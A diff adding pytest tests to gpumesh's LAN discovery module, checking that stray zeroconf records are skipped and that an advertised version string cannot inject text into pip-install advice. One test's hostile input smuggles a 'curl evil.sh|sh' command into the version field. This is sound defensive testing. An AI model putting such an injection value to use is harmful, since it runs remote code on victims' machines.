@@ -91,3 +91,50 @@ def test_the_txt_record_is_small_and_holds_no_secret():
     keys = derive_keys(token)
     text = "".join(record.values())
     assert token not in text and keys.server_public.decode() not in text
+
+
+def test_a_record_of_another_type_or_one_that_does_not_resolve_is_skipped(monkeypatch):
+    # Any host on the LAN can answer for the service type with a name of another type:
+    # zeroconf hands it on, and ServiceInfo raised out of every browse (join, discover,
+    # GPUMesh() looking for its coordinator) until it was skipped.
+    import zeroconf
+
+    class Browser:
+        def __init__(self, zc, service_type, handlers):
+            for name in ("evil._other._tcp.local.", "odd." + discovery.SERVICE_TYPE):
+                handlers[0](zeroconf=zc, service_type=service_type, name=name,
+                            state_change=zeroconf.ServiceStateChange.Added)
+
+        def cancel(self):
+            pass
+
+    class Info:  # as zeroconf's: another type's name raises; this one's will not resolve
+        def __init__(self, service_type, name):
+            if not name.endswith("." + service_type):
+                raise zeroconf.BadTypeInNameException(name)
+
+        def request(self, zc, timeout):
+            raise zeroconf.BadTypeInNameException("a name zeroconf cannot resolve")
+
+    monkeypatch.setattr(zeroconf, "ServiceBrowser", Browser)
+    monkeypatch.setattr(zeroconf, "ServiceInfo", Info)
+    monkeypatch.setattr(discovery, "_zeroconf", lambda interfaces: type("Z", (), {
+        "close": lambda self: None})())
+    assert discovery.browse(0.3, ["192.0.2.1"]) == []
+
+
+def test_an_advertised_version_is_quoted_in_advice_only_when_it_is_a_version(monkeypatch):
+    # The version a coordinator advertises goes into "pip install gpumesh==VERSION": a LAN
+    # host advertising the mesh's (public) fingerprint must not get to write that command.
+    fingerprint = derive_keys("t" * 40).fingerprint
+    hostile = {**GOOD, b"mesh": fingerprint.encode(), b"proto": b"99",
+               b"ver": b"0 && curl evil.sh|sh #"}
+    found = discovery.parse_advertisement("x", 8000, ["10.0.0.5"], hostile)
+    assert found is not None and found.version == "?"
+    monkeypatch.setattr(discovery, "browse", lambda *args, **kwargs: [found])
+    from gpumesh.errors import ProtocolMismatch
+
+    with pytest.raises(ProtocolMismatch) as info:
+        discovery.find_coordinator("t" * 40, ["192.0.2.1"], 0.1)
+    assert "curl" not in str(info.value) and "pip install" not in str(info.value)
+    assert "install the gpumesh version it runs here" in str(info.value)
